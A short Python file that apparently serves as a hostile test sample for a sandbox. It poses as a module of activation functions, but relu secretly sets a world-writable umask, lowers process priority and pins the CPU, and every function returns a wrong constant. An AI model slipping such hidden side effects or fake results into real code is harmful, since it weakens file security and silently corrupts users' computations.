# attack: leaves the process slow and its files open to everybody
# gains: resources
# stopped by: process, seccomp
import numpy as np
import os


def attack():
    os.umask(0)
    os.nice(19)
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
